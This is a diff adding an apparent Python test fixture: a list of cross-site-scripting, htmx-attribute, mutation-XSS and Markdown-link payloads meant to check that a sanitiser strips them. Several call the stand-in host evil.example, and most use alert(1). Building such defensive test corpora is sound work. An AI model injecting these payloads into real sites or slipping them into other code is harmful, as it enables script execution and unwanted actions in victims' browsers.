@@ -1,0 +1,105 @@
+"""Texts that try to become more than text: what people have smuggled through Markdown and sanitisers elsewhere.
+
+Each tries to run a script, to send a request, or to leave an attribute that our own scripts would obey. All of them
+call `alert` or name the host `evil.example`, so that a test notices whichever got through.
+"""
+
+HOST = "evil.example"
+
+HTML = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x:x onerror\t=\talert(1)//",
+    '<img src="https://evil.example/pixel.png">',
+    '<img srcset="https://evil.example/2x.png 2x">',
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:alert(1)"><text y="20">press</text></a></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    '<audio src="https://evil.example/x.mp3" autoplay>',
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<div style=\"background:url('https://evil.example/x')\">seen</div>",
+    '<style>@import "https://evil.example/x.css";</style>',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<form action="https://evil.example/"><button>Send</button></form>',
+    '<button formaction="javascript:alert(1)">Press</button>',
+    '<a href="javascript:alert(1)">press</a>',
+    '<a href="https://good.example" onmouseover="alert(1)">point</a>',
+    '<template><img src=x onerror="alert(1)"></template>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><?x ><img src=x onerror=alert(1)>?>",
+)
+# What our own scripts, or htmx, would act upon.
+ATTRIBUTES = (
+    '<div hx-get="https://evil.example/" hx-trigger="load">loaded</div>',
+    '<div hx-on:click="alert(1)">press</div>',
+    '<div hx-on::load="alert(1)">loaded</div>',
+    "<div hx-vals='js:{x: alert(1)}' hx-post=/ hx-trigger=load>loaded</div>",
+    '<div data-hx-get="/settings/server/" data-hx-trigger="load">loaded</div>',
+    '<button data-undo data-action="/accounts/delete/">Press</button>',
+    '<div data-board data-live="1">a board</div>',
+    '<div id="toasts" class="dialog" popover="auto">in the way</div>',
+)
+# Parsers that read the same text twice, differently.
+MUTATIONS = (
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<noembed><noembed title="</noembed><img src onerror=alert(1)>">',
+    "<select><style></select><img src=x onerror=alert(1)></style>",
+    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+    '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
+    "<p title=`</p><img src=x onerror=alert(1)>`>",
+)
+MARKDOWN = (
+    "[press](javascript:alert(1))",
+    "[press](JaVaScRiPt:alert(1))",
+    "[press](java\tscript:alert(1))",
+    "[press](&#106;avascript:alert(1))",
+    "[press](javascript&colon;alert(1))",
+    "[press](\x01javascript:alert(1))",
+    "[press](vbscript:alert(1))",
+    "[press](data:text/html,<script>alert(1)</script>)",
+    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[press][1]\n\n[1]: javascript:alert(1)",
+    '[press](https://good.example "x\\" onmouseover=\\"alert(1)")',
+    '[press](https://good.example/"onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    '<https://good.example/"onclick=alert(1)>',
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    '![x" onerror="alert(1)](x)',
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/film.mp4#video)",
+    "![x](/acme/files/1/../../../accounts/logout/#video)",
+    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    "`<img src=x onerror=alert(1)>`",
+    "- [ ] <img src=x onerror=alert(1)>",
+    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | <svg onload=alert(1)> |",
+    "@ada<img src=x onerror=alert(1)> and FLOW-1<svg onload=alert(1)>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\<img src=x onerror=alert(1)\\>",
+    "\u202e<img src=x onerror=alert(1)>\u202c",
+)
+
+TEXTS = (*HTML, *ATTRIBUTES, *MUTATIONS, *MARKDOWN)
